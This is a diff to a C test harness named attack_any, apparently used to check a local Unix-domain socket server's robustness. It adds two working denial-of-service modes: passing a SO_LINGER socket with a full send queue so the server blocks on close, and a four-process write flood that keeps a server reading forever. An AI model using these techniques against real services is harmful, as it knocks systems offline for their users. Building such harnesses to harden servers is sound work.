@@ -9,9 +9,25 @@
  *        attack_any squat NAME FILE
  *          serve NAME ourselves (serv_listen): answer every request,
  *          whatever it asks for, with FILE.  Runs until killed.
+ *        attack_any linger SERVER SECONDS
+ *          for SECONDS (at most 800 tries, 200 passed): connect, pass inside the
+ *          connection (send_fd) a TCP socket with SO_LINGER and unsent
+ *          data, and let go of every copy of ours; prints "passed 1" at
+ *          the first, then waits to be killed.  A server that closes
+ *          such a connection last (a refused one) blocks in the TCP close
+ *          for the linger time (as long as we live).
+ *        attack_any flood SERVER SECONDS
+ *          for SECONDS: connect, and four processes write into the
+ *          connection as fast as they can (a 4 MB send buffer) until it
+ *          fails, and again; prints "flooding" after 50 connections, or
+ *          once one took 16 MB.  A server that reads a
+ *          refused connection until EAGAIN never stops reading.
  */
 #include "apue.h"
+#include <netinet/in.h>
 #include <sys/resource.h>
+#include <sys/wait.h>
+#include <time.h>
 #include <sys/socket.h>
 #include <sys/un.h>
 
@@ -77,6 +93,151 @@ static int squat(const char *name, const char *file)
 	}
 }
 
+/* A TCP connection to our own listener, which never reads: its unsent
+ * data fills the send queue, and SO_LINGER says wait an hour at close.
+ * The listener (and what it accepts) stays open as long as we live. */
+static int lingering_socket(int *listener)
+{
+	struct sockaddr_in sin;
+	socklen_t len = sizeof sin;
+	struct linger lg = { .l_onoff = 1, .l_linger = 3600 };
+	char buf[65536];
+	int small = 4096, fd;
+
+	if (*listener < 0) {
+		memset(&sin, 0, sizeof sin);
+		sin.sin_family = AF_INET;
+		sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+		if ((*listener = socket(AF_INET, SOCK_STREAM, 0)) < 0 ||
+		    setsockopt(*listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small) < 0 ||
+		    bind(*listener, (struct sockaddr *)&sin, sizeof sin) < 0 ||
+		    listen(*listener, 1000) < 0)
+			err_sys("tcp listener");
+		fcntl(*listener, F_SETFL, O_NONBLOCK);
+	}
+	if (getsockname(*listener, (struct sockaddr *)&sin, &len) < 0 ||
+	    (fd = socket(AF_INET, SOCK_STREAM, 0)) < 0 ||
+	    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &small, sizeof small) < 0 ||
+	    connect(fd, (struct sockaddr *)&sin, sizeof sin) < 0)
+		err_sys("tcp connect");
+	(void)accept(*listener, NULL, NULL);    /* held, never read */
+	memset(buf, 'x', sizeof buf);
+	fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
+	while (write(fd, buf, sizeof buf) > 0)
+		;
+	if (setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof lg) < 0)
+		err_sys("SO_LINGER");
+	return fd;
+}
+
+/* The names cli_conn may have bound for process pid, which is gone. */
+static void forget_names_of(pid_t pid)
+{
+	char name[64];
+
+	for (int n = 0; n < 4; n++) {
+		snprintf(name, sizeof name, "/var/tmp/cli.%ld.%d", (long)pid, n);
+		(void)unlink(name);
+	}
+}
+
+/* Each attempt: a child connects, passes the lingering socket and
+ * _exits (an exiting process never lingers), while we have closed our
+ * copy already: the server's close of the connection is the last. */
+static int linger_attack(const char *server, unsigned seconds)
+{
+	time_t end = time(NULL) + seconds;
+	long passed = 0, tried = 0;
+	int listener = -1, status;
+
+	while (time(NULL) < end && passed < 200 && tried < 800) {
+		int tcp = lingering_socket(&listener);
+		pid_t pid = fork();
+
+		if (pid < 0)
+			err_sys("fork");
+		if (pid == 0) {
+			int clifd = cli_conn(server);
+
+			_exit(clifd >= 0 && send_fd(clifd, tcp) == 0 ? 0 : 1);
+		}
+		close(tcp);
+		tried++;
+		if (waitpid(pid, &status, 0) == pid && WIFEXITED(status) &&
+		    WEXITSTATUS(status) == 0 && ++passed == 1) {
+			printf("passed %ld\n", passed);
+			fflush(stdout);
+		}
+		forget_names_of(pid);
+	}
+	printf("passed %ld of %ld\n", passed, tried);
+	fflush(stdout);
+	pause();                        /* the sockets live as long as we do */
+	return 0;
+}
+
+static int flood_said;
+
+/* Say "flooding", once. */
+static void say_flooding(void)
+{
+	if (!flood_said) {
+		printf("flooding\n");
+		fflush(stdout);
+		flood_said = 1;
+	}
+}
+
+/* Write into fd until it fails; with watch, say so once 16 MB went in
+ * (the server is reading it). */
+static void write_until_error(int fd, int watch)
+{
+	static char buf[65536];
+	long long total = 0;
+	ssize_t n;
+
+	while ((n = write(fd, buf, sizeof buf)) > 0)
+		if ((total += n) > (16 << 20) && watch)
+			say_flooding();
+}
+
+/* Connect, and four processes write into the connection at once until
+ * the server hangs up; again, for SECONDS.  "flooding" once 50
+ * connections were made, or one took 16 MB. */
+static int flood_attack(const char *server, unsigned seconds)
+{
+	time_t end = time(NULL) + seconds;
+	long conns = 0;
+	int big = 4 << 20;
+
+	alarm(seconds + 1);
+	while (time(NULL) < end) {
+		int clifd = cli_conn(server);
+
+		if (clifd < 0)
+			continue;
+		(void)setsockopt(clifd, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
+		for (int i = 1; i < 4; i++) {
+			pid_t pid = fork();
+
+			if (pid < 0)
+				err_sys("fork");
+			if (pid == 0) {
+				write_until_error(clifd, 0);
+				_exit(0);
+			}
+		}
+		write_until_error(clifd, 1);
+		forget_name(clifd);
+		close(clifd);
+		while (wait(NULL) > 0)
+			;
+		if (++conns == 50)
+			say_flooding();
+	}
+	return 0;
+}
+
 int main(int argc, char *argv[])
 {
 	signal(SIGPIPE, SIG_IGN);
@@ -84,7 +245,13 @@ int main(int argc, char *argv[])
 		return hold(argv[2], atol(argv[3]), (unsigned)atoi(argv[4]));
 	if (argc == 4 && strcmp(argv[1], "squat") == 0)
 		return squat(argv[2], argv[3]);
+	if (argc == 4 && strcmp(argv[1], "linger") == 0)
+		return linger_attack(argv[2], (unsigned)atoi(argv[3]));
+	if (argc == 4 && strcmp(argv[1], "flood") == 0)
+		return flood_attack(argv[2], (unsigned)atoi(argv[3]));
 	fprintf(stderr, "usage: attack_any hold SERVER N SECONDS\n"
-			"       attack_any squat NAME FILE\n");
+			"       attack_any squat NAME FILE\n"
+			"       attack_any linger SERVER SECONDS\n"
+			"       attack_any flood SERVER SECONDS\n");
 	return 2;
 }
